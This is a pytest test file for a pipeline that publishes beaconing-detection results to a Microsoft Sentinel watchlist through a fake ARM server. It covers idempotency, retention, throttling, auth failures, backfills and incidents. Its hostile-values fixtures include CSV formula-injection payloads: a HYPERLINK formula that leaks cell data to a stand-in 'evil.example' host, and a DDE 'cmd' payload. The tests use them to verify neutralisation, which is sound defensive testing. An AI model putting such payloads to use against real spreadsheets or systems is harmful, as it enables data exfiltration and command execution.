"""Publishing the watchlist to Sentinel over ARM, against the fake ARM server
(pipeline_tests/fakes/sentinel_arm.py) through the real azure-core pipeline and the real
DefaultAzureCredential (stub `az`): creation with async upload, idempotent upserts, retention,
throttling, credential and naming failures, hostile values, and a 21-day backfill through
`dg.materialize` run twice. No Spark: the enriched days are written into a temporary lake."""

from __future__ import annotations

import datetime as dt
import uuid

import dagster as dg
import pandas as pd
import pytest
import requests

from pipeline.azure.credentials import AzureAccessError, forget_credential
from pipeline.lake import Lake
from pipeline.partitions import daily_partitions
from pipeline.publish import assets as watchlist
from pipeline.publish.incidents import incident_id, raise_incidents
from pipeline.publish.watchlist import (
    FIRST_REPORTED,
    ITEM_COLUMNS,
    LAST_REPORTED,
    ArmWatchlistClient,
    WatchlistPublishError,
    WatchlistTarget,
    publish_day,
)
from pipeline.publish.watchlist_csv import (
    FORMULA_PREFIXES,
    SEARCH_KEY,
    item_id,
    safe_cell,
    watchlist_rows,
)
from pipeline.settings import Settings
from pipeline_tests.fakes.sentinel_arm import FakeSentinelArm, running_sentinel_arm

SUB = "0a1b2c3d-0000-1111-2222-333344445555"
RG = "rg-security"
WS = "sentinel-ws"
ALIAS = "beaconing-candidates"
DAY = dt.date(2026, 11, 20)


class Log:
    """Collects what the publisher logs (stands in for context.log)."""

    def __init__(self) -> None:
        self.lines: list[str] = []

    def info(self, msg: str) -> None:
        self.lines.append(msg)

    def warning(self, msg: str) -> None:
        self.lines.append(msg)


def enriched(pairs: list[dict], day: dt.date = DAY) -> pd.DataFrame:
    """An enriched_beacons day; each dict overrides a realistic row (give SourceIP at least)."""
    base = {
        "DestinationIP": "203.0.113.50",
        "DestinationPort": 443,
        "Protocol": "TCP",
        "kind": "beacon",
        "risk_score": 0.91,
        "score": 0.95,
        "connections": 1440,
        "median_interval_s": 60.0,
        "prevalence": 0.02,
        "first_seen": pd.Timestamp(day) - pd.Timedelta(days=3),
        "last_seen": pd.Timestamp(day) + pd.Timedelta(hours=23),
        "reasons": "interval 60 s ± 5%",
        "date": day.isoformat(),
    }
    frame = pd.DataFrame([{**base, **pair} for pair in pairs])
    return frame.assign(risk_rank=range(1, len(frame) + 1))


def pairs(count: int, **values) -> list[dict]:
    return [{"SourceIP": f"10.0.0.{i}", **values} for i in range(1, count + 1)]


@pytest.fixture
def arm(az_cli, test_ca):
    """The fake ARM with one Sentinel workspace, served over HTTPS; yields (fake, endpoint)."""
    forget_credential()
    fake = FakeSentinelArm()
    fake.add_workspace(SUB, RG, WS)
    with running_sentinel_arm(test_ca, fake) as url:
        yield fake, url
    forget_credential()


def client_for(url: str, **overrides) -> ArmWatchlistClient:
    target = WatchlistTarget(
        overrides.pop("subscription_id", SUB),
        overrides.pop("resource_group", RG),
        overrides.pop("workspace_name", WS),
        ALIAS,
        url,
    )
    values = {"retry_backoff_s": 0.05, "poll_interval_s": 0.05, **overrides}
    return ArmWatchlistClient(target, **values)


def publish(url: str, frame: pd.DataFrame, day: dt.date = DAY, retention: int = 30, **kwargs):
    budget = kwargs.pop("raw_content_budget", None)
    client = client_for(url, **kwargs)
    try:
        client.check_identity()
        extra = {"raw_content_budget": budget} if budget else {}
        return publish_day(client, watchlist_rows(frame), day, retention, Log(), **extra)
    finally:
        client.close()


def by_key(fake: FakeSentinelArm) -> dict[str, dict[str, str]]:
    items = fake.items(ALIAS)
    keys = [i[SEARCH_KEY] for i in items]
    assert len(keys) == len(set(keys)), f"a pair has several items: {sorted(keys)}"
    return {i[SEARCH_KEY]: i for i in items}


# --- creation, idempotency, retention ----------------------------------------------------------


def test_missing_watchlist_is_created_and_its_upload_followed(arm):
    fake, url = arm
    fake.async_polls = 2
    stats = publish(url, enriched(pairs(3)))
    assert stats.created_watchlist
    assert stats.upload_polls == 3  # InProgress twice, then Succeeded
    assert (stats.uploaded_in_raw_content, stats.upserted, stats.unchanged) == (3, 3, 0)
    stored = fake.watchlist(ALIAS)
    assert stored is not None and stored.upload_status == "Complete"
    assert stored.properties["itemsSearchKey"] == SEARCH_KEY
    assert stored.properties["contentType"] == "text/csv"
    assert stored.properties["defaultDuration"] == "P30D"
    items = by_key(fake)
    assert sorted(items) == [f"10.0.0.{i}|203.0.113.50|443|TCP" for i in (1, 2, 3)]
    assert set(items["10.0.0.1|203.0.113.50|443|TCP"]) == set(ITEM_COLUMNS)
    assert {i[FIRST_REPORTED] for i in items.values()} == {DAY.isoformat()}
    # One PUT created the watchlist with every row; no item was written one by one.
    assert [(r.method, r.status) for r in fake.writes()] == [("PUT", 201)]


def test_republishing_a_day_writes_nothing_and_a_later_day_updates_in_place(arm):
    fake, url = arm
    publish(url, enriched(pairs(3)))
    ids_before = sorted(fake.item_ids(ALIAS))
    writes = len(fake.writes())

    again = publish(url, enriched(pairs(3)))
    assert (again.created_watchlist, again.upserted, again.unchanged) == (False, 0, 3)
    assert len(fake.writes()) == writes
    assert sorted(fake.item_ids(ALIAS)) == ids_before

    later = DAY + dt.timedelta(days=1)
    frame = enriched([{"SourceIP": "10.0.0.1", "score": 0.5}, {"SourceIP": "10.0.0.9"}], later)
    stats = publish(url, frame, later)
    assert (stats.upserted, stats.unchanged, stats.deleted) == (2, 0, 0)
    items = by_key(fake)
    assert len(items) == 4
    updated = items["10.0.0.1|203.0.113.50|443|TCP"]
    assert (updated["score"], updated[FIRST_REPORTED], updated[LAST_REPORTED]) == (
        "0.5",
        DAY.isoformat(),
        later.isoformat(),
    )
    # The new pair's item id is derived from its key.
    assert item_id("10.0.0.9|203.0.113.50|443|TCP") in fake.item_ids(ALIAS)
    # The pairs not reported on the later day stay (retention 30 days) with their old values.
    assert items["10.0.0.2|203.0.113.50|443|TCP"][LAST_REPORTED] == DAY.isoformat()


def test_items_past_retention_are_deleted_and_an_old_day_rerun_does_not_roll_back(arm):
    fake, url = arm
    publish(url, enriched(pairs(2)), DAY, retention=3)
    later = DAY + dt.timedelta(days=4)
    stats = publish(url, enriched([{"SourceIP": "10.0.0.1", "score": 0.8}], later), later, 3)
    assert stats.deleted == 1
    assert sorted(by_key(fake)) == ["10.0.0.1|203.0.113.50|443|TCP"]

    # Re-running the first day brings back neither the expired pair nor the old score.
    rerun = publish(url, enriched(pairs(2)), DAY, retention=3)
    assert (rerun.upserted, rerun.kept_newer, rerun.deleted) == (0, 1, 0)
    items = by_key(fake)
    assert sorted(items) == ["10.0.0.1|203.0.113.50|443|TCP"]
    kept = items["10.0.0.1|203.0.113.50|443|TCP"]
    assert (kept["score"], kept[LAST_REPORTED], kept[FIRST_REPORTED]) == (
        "0.8",
        later.isoformat(),
        DAY.isoformat(),
    )


def test_a_large_day_is_split_between_the_first_upload_and_item_puts(arm):
    fake, url = arm
    # 400 pairs of ~10 kB each: about 4 MB, more than one rawContent may carry (3.8 MB).
    frame = enriched(
        pairs(200, reasons="x" * 10_000) + pairs(200, Protocol="UDP", reasons="y" * 10_000)
    )
    stats = publish(url, frame)
    assert 0 < stats.uploaded_in_raw_content < 400
    assert stats.upserted == 400
    assert len(by_key(fake)) == 400
    item_puts = [r for r in fake.writes() if "/watchlistItems/" in r.path]
    assert len(item_puts) == 400 - stats.uploaded_in_raw_content
    assert not fake.answered(400)
    # Idempotent whatever the path an item took.
    assert publish(url, frame).unchanged == 400
    assert len(fake.items(ALIAS)) == 400


def test_items_paged_by_next_link_and_duplicates_of_a_key_are_removed(arm):
    fake, url = arm
    fake.page_size = 4
    publish(url, enriched(pairs(10)), raw_content_budget=2_000)
    assert len(by_key(fake)) == 10
    # Someone uploads the same pair again by hand: two items with one PairKey.
    stored = fake.watchlist(ALIAS)
    key = "10.0.0.3|203.0.113.50|443|TCP"
    copy = next(
        i for i in stored.items.values() if i["properties"]["itemsKeyValue"][SEARCH_KEY] == key
    )
    extra = str(uuid.uuid4())
    stored.items[extra] = {
        **copy,
        "name": extra,
        "properties": {**copy["properties"], "watchlistItemId": extra},
    }
    stats = publish(url, enriched(pairs(10)))
    assert stats.duplicates_removed == 1
    assert len(by_key(fake)) == 10
    assert len(fake.answered(200, "GET")) > 3  # several pages were read


def test_a_deleted_watchlist_is_created_again(arm):
    fake, url = arm
    publish(url, enriched(pairs(2)))
    fake.watchlists.clear()
    stats = publish(url, enriched(pairs(2)))
    assert stats.created_watchlist
    assert len(by_key(fake)) == 2


def test_a_day_without_pairs_creates_an_empty_watchlist(arm):
    fake, url = arm
    stats = publish(url, enriched(pairs(1)).iloc[0:0])
    assert stats.created_watchlist and stats.rows == 0
    assert fake.watchlist(ALIAS) is not None and fake.items(ALIAS) == []


def test_a_failed_upload_fails_clearly_and_a_rerun_completes_the_watchlist(arm):
    fake, url = arm
    fake.async_fail = True
    with pytest.raises(WatchlistPublishError, match=r"upload ended Failed.*Re-run"):
        publish(url, enriched(pairs(3)))
    fake.async_fail = False
    stats = publish(url, enriched(pairs(3)))
    assert not stats.created_watchlist and stats.upserted == 3
    assert len(by_key(fake)) == 3


def test_an_alias_used_by_another_watchlist_is_refused(arm):
    fake, url = arm
    fake.add_watchlist(
        SUB, RG, WS, ALIAS, displayName="IOCs", provider="someone", itemsSearchKey="Domain"
    )
    with pytest.raises(
        WatchlistPublishError, match=r"itemsSearchKey 'Domain'.*BEACON_WATCHLIST_ALIAS"
    ):
        publish(url, enriched(pairs(1)))
    assert fake.items(ALIAS) == []


# --- hostile values ------------------------------------------------------------------------------


HOSTILE = [
    {
        "SourceIP": "10.9.0.1",
        "reasons": '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
        "kind": "@SUM(1+1)",
        "Protocol": "TCP",
    },
    {
        "SourceIP": "10.9.0.2",
        "reasons": 'a "quoted", multi\r\nline\nreason, Zürich ✓ 東京',
        "kind": "-beacon",
        "Protocol": "+UDP",
    },
]


@pytest.mark.parametrize("path", ["first upload (rawContent)", "item PUT"])
def test_hostile_values_are_stored_neutralised_and_read_back_intact(arm, path):
    fake, url = arm
    if path == "item PUT":
        publish(url, enriched(pairs(1)))  # the watchlist exists: the hostile pairs are PUT
    frame = enriched(HOSTILE)
    publish(url, frame)
    items = by_key(fake)
    for raw in HOSTILE:
        key = safe_cell(f"{raw['SourceIP']}|203.0.113.50|443|{raw['Protocol']}")
        stored = items[key]
        for column in ("reasons", "kind", "Protocol"):
            assert stored[column] == safe_cell(raw[column])
    assert items[safe_cell("10.9.0.2|203.0.113.50|443|+UDP")]["reasons"] == (
        'a "quoted", multi\r\nline\nreason, Zürich ✓ 東京'
    )
    assert items[safe_cell("10.9.0.1|203.0.113.50|443|TCP")]["reasons"].startswith("'=HYPERLINK(")
    for stored in items.values():
        assert not any(cell.startswith(FORMULA_PREFIXES) for cell in stored.values())
    # Read back through the client: the same values, and a re-run sees nothing to change.
    client = client_for(url)
    try:
        listed = {i["properties"]["itemsKeyValue"][SEARCH_KEY]: i for i in client.list_items()}
    finally:
        client.close()
    assert {k: v["properties"]["itemsKeyValue"] for k, v in listed.items()} == items
    assert publish(url, frame).unchanged == 2


# --- throttling and failures ---------------------------------------------------------------------


def test_throttling_is_honoured_with_retry_after(arm):
    fake, url = arm
    publish(url, enriched(pairs(1)))
    fake.throttle(3, retry_after="1")
    stats = publish(url, enriched(pairs(4)))
    assert stats.throttled == 3 and stats.retry_after_s == 3.0
    assert len(fake.answered(429)) == 3
    assert len(by_key(fake)) == 4


def test_throttled_past_the_retries_fails_clearly_and_a_rerun_completes_the_day(arm):
    fake, url = arm
    publish(url, enriched(pairs(1)))
    # GET watchlist and list items pass, two item PUTs pass, then ARM keeps refusing.
    fake.throttle(50, retry_after="0", after=4)
    with pytest.raises(WatchlistPublishError, match=r"throttled.*429.*Re-run the day later"):
        publish(url, enriched(pairs(8)), retry_total=2)
    assert 1 < len(fake.items(ALIAS)) < 8  # half-published ...
    fake.throttle(0)
    stats = publish(url, enriched(pairs(8)))
    assert len(by_key(fake)) == 8  # ... and the re-run completes it, one item per pair
    assert stats.upserted + stats.unchanged == 8


def test_expired_credentials_fail_before_anything_is_sent(arm, az_cli):
    fake, url = arm
    az_cli.set_mode("expired")
    with pytest.raises(AzureAccessError, match=r"expired ARM token.*az login"):
        publish(url, enriched(pairs(2)))
    assert fake.requests == []


def test_no_identity_fails_naming_the_role(arm, az_cli):
    fake, url = arm
    az_cli.set_mode("error")
    with pytest.raises(AzureAccessError, match=r"az login.*Microsoft Sentinel Contributor"):
        publish(url, enriched(pairs(2)))
    assert fake.requests == []


def test_a_refused_token_fails_naming_the_role(arm):
    fake, url = arm
    fake.expected_token = "another-token"
    with pytest.raises(
        AzureAccessError, match=r"HTTP 401 InvalidAuthenticationToken.*Sentinel Contributor"
    ):
        publish(url, enriched(pairs(2)))
    assert fake.watchlists == {}


@pytest.mark.parametrize(
    ("target", "message"),
    [
        (
            {"resource_group": "rg-missing"},
            "resource group does not exist.*SENTINEL_RESOURCE_GROUP",
        ),
        ({"workspace_name": "other-ws"}, "workspace does not exist.*SENTINEL_WORKSPACE_NAME"),
    ],
    ids=["resource group", "workspace"],
)
def test_a_missing_resource_group_or_workspace_fails_clearly(arm, target, message):
    fake, url = arm
    with pytest.raises(WatchlistPublishError, match=message):
        publish(url, enriched(pairs(2)), **target)
    assert fake.writes() == [] and fake.watchlists == {}


def test_the_api_version_is_checked(arm):
    fake, url = arm
    fake.api_versions = ("2021-10-01",)
    with pytest.raises(WatchlistPublishError, match="InvalidApiVersionParameter"):
        publish(url, enriched(pairs(1)))


# --- the asset: a 21-day backfill run twice ------------------------------------------------------

START = DAY - dt.timedelta(days=25)
FIRST = DAY - dt.timedelta(days=20)
DAYS = [FIRST + dt.timedelta(days=i) for i in range(21)]


def backfill_day(day: dt.date, index: int) -> pd.DataFrame:
    """Two steady beacons every day, one every third day, one per day (new each day), and a
    hostile pair on even days whose text changes with the day."""
    rows = [
        {"SourceIP": "10.1.0.1", "score": round(0.8 + index / 200, 3)},
        {"SourceIP": "10.1.0.2", "DestinationPort": 8443, "Protocol": "UDP"},
        {"SourceIP": f"10.2.0.{index + 1}", "DestinationIP": "198.51.100.7"},
    ]
    if index % 3 == 0:
        rows.append({"SourceIP": "10.1.0.3", "connections": 100 + index})
    if index % 2 == 0:
        rows.append(
            {
                "SourceIP": "10.1.0.4",
                "DestinationIP": "=cmd|' /C calc'!A0",
                "reasons": f'=HYPERLINK("http://x/{index}")\n"Zürich" ✓',
            }
        )
    return enriched(rows, day)


def write_enriched_days(lake_url: str) -> dict[str, dict[str, str]]:
    """The enriched_beacons days in the lake; returns each pair's expected final item."""
    expected: dict[str, dict[str, str]] = {}
    for index, day in enumerate(DAYS):
        frame = backfill_day(day, index)
        Lake(lake_url).write_day_file(
            "enriched_beacons", day, "part-0.parquet", frame.drop(columns="date")
        )
        Lake(lake_url).write_manifest("enriched_beacons", day, {"rows": len(frame)})
        for row in watchlist_rows(frame):
            first = expected.get(row[SEARCH_KEY], {}).get(FIRST_REPORTED, day.isoformat())
            expected[row[SEARCH_KEY]] = {
                **row,
                FIRST_REPORTED: first,
                LAST_REPORTED: day.isoformat(),
            }
    return expected


def materialize(settings: Settings, days: list[dt.date] = DAYS) -> dg.ExecuteInProcessResult:
    asset = watchlist.build(settings, daily_partitions(settings.start_date))
    return dg.materialize(
        [asset],
        tags={
            "dagster/asset_partition_range_start": days[0].isoformat(),
            "dagster/asset_partition_range_end": days[-1].isoformat(),
        },
    )


def test_a_21_day_backfill_run_twice_leaves_one_item_per_reported_pair(arm, tmp_path):
    fake, url = arm
    settings = Settings(
        lake_url=str(tmp_path / "lake"),
        start_date=START,
        sentinel_subscription_id=SUB,
        sentinel_resource_group=RG,
        sentinel_workspace_name=WS,
        sentinel_arm_endpoint=url,
    )
    expected = write_enriched_days(settings.lake_url)
    assert len(expected) == 4 + 21  # 4 recurring pairs and one new pair a day

    first = materialize(settings)
    assert first.success
    assert by_key(fake) == expected
    ids = sorted(fake.item_ids(ALIAS))
    writes = len(fake.writes())

    second = materialize(settings)
    assert second.success
    assert by_key(fake) == expected
    assert sorted(fake.item_ids(ALIAS)) == ids
    assert len(fake.writes()) == writes  # the re-run found nothing to change

    events = second.get_asset_materialization_events()
    assert sorted(e.partition for e in events) == [d.isoformat() for d in DAYS]
    metadata = {k: v.value for k, v in events[0].materialization.metadata.items()}
    assert metadata["sink"] == "Sentinel watchlist (ARM) + lake CSV"
    assert metadata["items_upserted"] == 0 and metadata["items_deleted"] == 0
    assert metadata["items_unchanged"] + metadata["items_kept_newer"] == metadata["items"]
    assert metadata["watchlist"].endswith(f"/watchlists/{ALIAS}")
    assert "fake-token-for" not in repr(metadata)
    first_meta = first.get_asset_materialization_events()[0].materialization.metadata
    assert first_meta["watchlist_created"].value is True
    assert first_meta["items_upserted"].value > len(expected)  # updated across the days
    # The lake keeps each day's CSV as the record of what was sent.
    for day in DAYS:
        assert (tmp_path / "lake" / "sentinel_watchlist" / f"date={day}" / "watchlist.csv").exists()


def test_without_sentinel_settings_the_asset_writes_only_the_lake_csv(arm, tmp_path):
    fake, _ = arm
    settings = Settings(lake_url=str(tmp_path / "lake"), start_date=START)
    write_enriched_days(settings.lake_url)
    result = materialize(settings)
    assert result.success
    metadata = result.get_asset_materialization_events()[0].materialization.metadata
    assert metadata["sink"].value == "local CSV (Sentinel not configured)"
    assert fake.requests == []


def test_a_missing_resource_group_fails_the_run_before_any_day_is_written(arm, tmp_path):
    fake, url = arm
    settings = Settings(
        lake_url=str(tmp_path / "lake"),
        start_date=START,
        sentinel_subscription_id=SUB,
        sentinel_resource_group="rg-typo",
        sentinel_workspace_name=WS,
        sentinel_arm_endpoint=url,
    )
    write_enriched_days(settings.lake_url)
    asset = watchlist.build(settings, daily_partitions(settings.start_date))
    result = dg.materialize([asset], partition_key=DAYS[-1].isoformat(), raise_on_error=False)
    assert not result.success
    (failure,) = result.get_step_failure_events()
    message = failure.step_failure_data.error.cause.message
    assert "resource group does not exist" in message and "SENTINEL_RESOURCE_GROUP" in message
    assert fake.writes() == []
    assert not (tmp_path / "lake" / "sentinel_watchlist").exists()


# --- the fake refuses what ARM refuses -----------------------------------------------------------


def test_the_fake_validates_token_api_version_and_body(arm):
    fake, url = arm
    token = {"Authorization": f"Bearer {fake.expected_token}"}
    watchlist_url = WatchlistTarget(SUB, RG, WS, ALIAS, url).url
    good = {"displayName": "d", "provider": "p", "itemsSearchKey": SEARCH_KEY}

    def put(target: str, body: dict, headers=token, version="2025-09-01") -> tuple[int, str]:
        params = {"api-version": version} if version else {}
        answer = requests.put(target, json=body, headers=headers, params=params, timeout=10)
        return answer.status_code, (answer.json().get("error") or {}).get("code", "")

    assert put(watchlist_url, {"properties": good}, headers={}) == (401, "AuthenticationFailed")
    wrong = {"Authorization": "Bearer fake-token-for:https://storage.azure.com"}
    assert put(watchlist_url, {"properties": good}, headers=wrong)[0] == 401
    assert put(watchlist_url, {"properties": good}, version="")[1] == "MissingApiVersionParameter"
    assert put(watchlist_url, {"properties": good}, version="2021-10-01")[0] == 400
    for missing in ("displayName", "provider", "itemsSearchKey"):
        body = {k: v for k, v in good.items() if k != missing}
        assert put(watchlist_url, {"properties": body})[0] == 400
    too_big = {**good, "contentType": "text/csv", "rawContent": "PairKey\r\n" + "x" * 3_800_000}
    assert put(watchlist_url, {"properties": too_big})[0] == 400
    no_key = {**good, "contentType": "text/csv", "rawContent": "SourceIP\r\n10.0.0.1\r\n"}
    assert put(watchlist_url, {"properties": no_key})[0] == 400
    not_csv = {**good, "contentType": "application/json", "rawContent": "PairKey\r\na\r\n"}
    assert put(watchlist_url, {"properties": not_csv})[0] == 400
    assert put(watchlist_url.replace(ALIAS, "ab"), {"properties": good})[0] == 400
    assert fake.watchlists == {}

    fake.async_create = False
    assert put(watchlist_url, {"properties": good})[0] == 201
    item_url = f"{watchlist_url}/watchlistItems/{item_id('a')}"
    assert put(item_url, {"properties": {"itemsKeyValue": {SEARCH_KEY: 1}}})[0] == 400
    assert put(item_url, {"properties": {"itemsKeyValue": {"Other": "a"}}})[0] == 400
    assert put(f"{watchlist_url}/watchlistItems/not-a-guid", {"properties": {}})[0] == 400
    assert put(item_url, {"properties": {"itemsKeyValue": {SEARCH_KEY: "a"}}})[0] == 201
    assert put(item_url, {"properties": {"itemsKeyValue": {SEARCH_KEY: "a"}}})[0] == 200
    assert fake.items(ALIAS) == [{SEARCH_KEY: "a"}]


# --- incidents (optional) -----------------------------------------------------------------------


def incidents_of(fake: FakeSentinelArm) -> dict[str, dict]:
    return {key[3]: value["properties"] for key, value in fake.incidents.items()}


def test_incidents_are_raised_once_per_pair_and_day_and_never_overwritten(arm):
    fake, url = arm
    frame = enriched(
        [
            {"SourceIP": "10.0.0.1", "risk_score": 0.95},
            {"SourceIP": "10.0.0.2", "risk_score": 0.8},
            {"SourceIP": "10.0.0.3", "risk_score": 0.5},
        ]
    )
    rows = watchlist_rows(frame)

    def raise_for(day: dt.date):
        client = client_for(url)
        try:
            return raise_incidents(client, rows, day, 0.75, Log())
        finally:
            client.close()

    stats = raise_for(DAY)
    assert (stats.eligible, stats.created, stats.existing) == (2, 2, 0)
    first = incident_id("10.0.0.1|203.0.113.50|443|TCP", DAY)
    second = incident_id("10.0.0.2|203.0.113.50|443|TCP", DAY)
    incidents = incidents_of(fake)
    assert set(incidents) == {first, second}
    assert (incidents[first]["severity"], incidents[second]["severity"]) == ("High", "Medium")
    assert incidents[first]["status"] == "New"
    assert "10.0.0.1 → 203.0.113.50:443/TCP" in incidents[first]["title"]
    assert "_GetWatchlist('beaconing-candidates')" in incidents[first]["description"]

    # An analyst takes the incident; the re-run neither duplicates nor resets it.
    next(v for k, v in fake.incidents.items() if k[3] == first)["properties"]["status"] = "Active"
    puts = len(fake.writes())
    again = raise_for(DAY)
    assert (again.created, again.existing) == (0, 2)
    assert len(fake.writes()) == puts
    assert incidents_of(fake)[first]["status"] == "Active"

    # The next day is a new incident for the same pair.
    later = raise_for(DAY + dt.timedelta(days=1))
    assert later.created == 2 and len(fake.incidents) == 4


def test_the_asset_raises_incidents_above_the_risk_setting_once(arm, tmp_path):
    fake, url = arm
    settings = Settings(
        lake_url=str(tmp_path / "lake"),
        start_date=START,
        sentinel_subscription_id=SUB,
        sentinel_resource_group=RG,
        sentinel_workspace_name=WS,
        sentinel_arm_endpoint=url,
        incident_min_risk=0.9,
    )
    write_enriched_days(settings.lake_url)
    days = DAYS[-3:]
    expected = {
        incident_id(row[SEARCH_KEY], day)
        for index, day in enumerate(DAYS)
        if day in days
        for row in watchlist_rows(backfill_day(day, index))
        if float(row["risk_score"]) >= 0.9
    }
    assert len(expected) >= 9

    first = materialize(settings, days)
    assert first.success
    assert set(incidents_of(fake)) == expected
    second = materialize(settings, days)
    assert second.success
    assert set(incidents_of(fake)) == expected
    metadata = second.get_asset_materialization_events()[0].materialization.metadata
    assert metadata["incidents_raised"].value == 0
    assert metadata["incidents_already_raised"].value == len(expected)
